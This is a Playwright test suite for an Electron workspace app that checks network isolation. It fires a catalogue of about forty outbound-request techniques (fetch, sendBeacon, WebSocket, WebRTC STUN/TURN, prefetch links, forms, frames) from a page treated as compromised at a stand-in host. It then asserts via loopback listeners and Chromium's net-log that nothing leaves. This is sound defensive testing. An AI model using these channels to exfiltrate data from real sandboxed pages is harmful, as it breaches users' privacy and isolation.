// Nothing leaves. A workspace page that has been taken over tries every way to a network that a page has; two
// listeners on this machine must hear nothing, and Chromium's own record of its network stack must hold neither a
// name that was asked for nor a socket that was opened.
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { type AddressInfo, createServer } from 'node:net'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import { inPage, startUnlocked } from '../support/app/program.ts'
import { workFolder } from '../support/electron/folders.ts'
import { type LaunchedApp, launchApp } from '../support/electron/launch.ts'

let running: LaunchedApp | undefined
test.afterEach(async () => {
  await running?.kill()
  running = undefined
})

/** Hears connections and datagrams on one port of the loopback. */
async function listen() {
  const heard: string[] = []
  const tcp = createServer((socket) => {
    heard.push('a connection')
    socket.destroy()
  })
  tcp.listen(0, '127.0.0.1')
  await once(tcp, 'listening')
  const { port } = tcp.address() as AddressInfo
  const udp = createSocket('udp4')
  udp.on('message', () => heard.push('a datagram'))
  udp.bind(port, '127.0.0.1')
  await once(udp, 'listening')
  const close = () => {
    tcp.close()
    udp.close()
  }
  return { port, heard, close }
}

/** `HOST` stands for an address, `NAME` for a name that only a resolver knows. */
const ATTACKS = {
  fetch: `fetch('http://HOST/').catch(() => {})`,
  'fetch without cors': `fetch('http://HOST/', { mode: 'no-cors', keepalive: true }).catch(() => {})`,
  'fetch of a name': `fetch('http://NAME/').catch(() => {})`,
  XMLHttpRequest: `(() => { const r = new XMLHttpRequest(); r.open('GET', 'http://HOST/'); r.send() })()`,
  WebSocket: `void new WebSocket('ws://HOST/')`,
  'WebSocket to a name': `void new WebSocket('wss://NAME/')`,
  EventSource: `void new EventSource('http://HOST/')`,
  beacon: `navigator.sendBeacon('http://HOST/', 'x')`,
  image: `void (new Image().src = 'http://HOST/x.png')`,
  'image of a name': `void (new Image().src = 'http://NAME/x.png')`,
  video: `void (document.createElement('video').src = 'http://HOST/x.mp4')`,
  style: `element('link', { rel: 'stylesheet', href: 'http://HOST/x.css' })`,
  font: `new FontFace('x', 'url(http://HOST/x.woff2)').load().catch(() => {})`,
  icon: `element('link', { rel: 'icon', href: 'http://HOST/x.ico' })`,
  manifest: `element('link', { rel: 'manifest', href: 'http://HOST/x.json' })`,
  prefetch: `element('link', { rel: 'prefetch', href: 'http://HOST/' })`,
  preload: `element('link', { rel: 'preload', as: 'script', href: 'http://HOST/x.js' })`,
  modulepreload: `element('link', { rel: 'modulepreload', href: 'http://HOST/x.js' })`,
  preconnect: `element('link', { rel: 'preconnect', href: 'http://HOST/' })`,
  'preconnect to a name': `element('link', { rel: 'preconnect', href: 'https://NAME/' })`,
  'dns-prefetch': `element('link', { rel: 'dns-prefetch', href: '//NAME/' })`,
  ping: `(() => { const a = element('a', { href: '#', ping: 'http://HOST/' }); a.click() })()`,
  'speculation rules': `element('script', { type: 'speculationrules' }, '{"prefetch":[{"urls":["http://HOST/"]}]}')`,
  'background image': `void (document.body.style.backgroundImage = 'url(http://HOST/x.png)')`,
  script: `element('script', { src: 'http://HOST/x.js' })`,
  import: `import('http://HOST/x.js').catch(() => {})`,
  frame: `element('iframe', { src: 'http://HOST/' })`,
  navigation: `void (location.href = 'http://HOST/')`,
  window: `void window.open('http://HOST/')`,
  form: `(() => { const form = element('form', { action: 'http://HOST/', method: 'post' }); form.submit() })()`,
  download: `(() => { const a = element('a', { href: 'http://HOST/x', download: 'x' }); a.click() })()`,
  'WebRTC over UDP': `peer('stun:HOST')`,
  'WebRTC over TCP': `peer('turn:HOST?transport=tcp')`,
  'WebRTC to a name': `peer('stun:NAME:3478')`,
  WebTransport: `void new WebTransport('https://HOST/').closed.catch(() => {})`,
  'payment request': `new PaymentRequest([{ supportedMethods: 'https://NAME/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show().catch(() => {})`,
  'source of a frame without origin': `element('iframe', { sandbox: 'allow-scripts', src: 'http://HOST/' })`,
  'image in a frame': `(() => { const frame = element('iframe', {}); frame.contentDocument.body.append(frame.contentDocument.createElement('img')); frame.contentDocument.querySelector('img').src = 'http://HOST/x.png' })()`,
  'fetch in a frame': `(() => { const frame = element('iframe', {}); frame.contentWindow.fetch('http://HOST/').catch(() => {}) })()`,
}

const HELPERS = `
  const element = (name, attributes, text) => {
    const made = document.createElement(name)
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value)
    if (text) made.append(text)
    document.body.append(made)
    return made
  }
  const peer = async (urls) => {
    const made = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }], iceCandidatePoolSize: 2 })
    made.createDataChannel('x')
    await made.setLocalDescription(await made.createOffer())
  }`

/** What a network stack that was used leaves in Chromium's record: resolving, connecting, sending. */
const TRACES = [
  'HOST_RESOLVER_SYSTEM_TASK',
  'HOST_RESOLVER_DNS_TASK',
  'DNS_TRANSACTION',
  'TCP_CONNECT',
  'TCP_CONNECT_ATTEMPT',
  'UDP_CONNECT',
  'UDP_BYTES_SENT',
  'SOCKET_BYTES_SENT',
  'SSL_CONNECT',
]

/**
 * Chromium asks the system for a route to this address to learn whether the machine has IPv6. Connecting a UDP
 * socket sends nothing (that nothing was sent is looked for as well), and no name or address of a page is in it.
 */
const ROUTE_QUESTION = 'UDP_CONNECT {"address":"[2001:4860:4860::8888]:443"}'

interface NetLog {
  readonly constants: {
    readonly logEventTypes: Readonly<Record<string, number>>
    readonly logEventPhase: { readonly PHASE_END: number }
  }
  readonly events: readonly {
    readonly type: number
    readonly phase: number
    readonly params?: unknown
  }[]
}

async function tracesIn(file: string): Promise<string[]> {
  const { constants, events } = JSON.parse(await readFile(file, 'utf8')) as NetLog
  const names = new Map(Object.entries(constants.logEventTypes).map(([name, id]) => [id, name]))
  expect(TRACES.filter((name) => !(name in constants.logEventTypes))).toEqual([])
  return (
    events
      .filter(({ type }) => TRACES.includes(names.get(type) ?? ''))
      .filter(({ phase }) => phase !== constants.logEventPhase.PHASE_END)
      .map(({ type, params }) => `${names.get(type)} ${JSON.stringify(params ?? {})}`)
      // The end of an event has no address.
      .filter((trace) => trace !== ROUTE_QUESTION && !trace.endsWith(' {}'))
  )
}

test('nothing leaves, whatever a page tries', async () => {
  test.setTimeout(120_000)
  const listener = await listen()
  const record = join(await workFolder('network'), 'netlog.json')
  const { launched, page } = await startUnlocked({ args: [`--log-net-log=${record}`] })
  running = launched

  for (const [name, attack] of Object.entries(ATTACKS)) {
    const code = attack
      .replaceAll('HOST', `127.0.0.1:${listener.port}`)
      .replaceAll('NAME', `planted-${name.length}.example.org`)
    await inPage(page, `(() => { ${HELPERS}; return ${code} })()`)
    expect(page.url(), name).toMatch(/^app:\/\/workspace\//)
    await page.waitForTimeout(150)
  }
  await page.waitForTimeout(3_000)
  expect(listener.heard).toEqual([])
  await launched.close()
  expect(await tracesIn(record)).toEqual([])
  listener.close()
})

test('the listener and the record would have noticed', async () => {
  const listener = await listen()
  const record = join(await workFolder('network'), 'netlog.json')
  const launched = await launchApp({
    appDir: 'tests/support/electron/fixture',
    args: [`--log-net-log=${record}`],
  })
  running = launched
  await launched.app.firstWindow()
  await launched.app.evaluate(
    ({ net }, port) => net.fetch(`http://127.0.0.1:${port}/`).catch(() => {}),
    listener.port,
  )
  expect(listener.heard).toContain('a connection')
  await launched.close()
  expect((await tracesIn(record)).join()).toContain('TCP_CONNECT')
  listener.close()
})

test('main itself cannot reach the network through Chromium', async () => {
  const listener = await listen()
  const { launched } = await startUnlocked()
  running = launched
  const answers = await launched.app.evaluate(async ({ net, session, app }, port) => {
    const ask = (use: { fetch: typeof fetch }, url: string) =>
      use.fetch(url).then(
        () => 'answered',
        (error: Error) => error.message,
      )
    const own = [net, session.defaultSession, session.fromPartition('other')]
    return [
      ...(await Promise.all(own.map((use) => ask(use as never, `http://127.0.0.1:${port}/`)))),
      await session.defaultSession.resolveHost('example.org').then(
        () => 'resolved',
        () => 'failed',
      ),
      app.commandLine.getSwitchValue('host-resolver-rules'),
    ]
  }, listener.port)
  // The filter of every session says no before anything is resolved or connected.
  const blocked = 'net::ERR_BLOCKED_BY_CLIENT'
  expect(answers).toEqual([blocked, blocked, blocked, 'failed', 'MAP * ~NOTFOUND'])
  expect(listener.heard).toEqual([])
  listener.close()
})
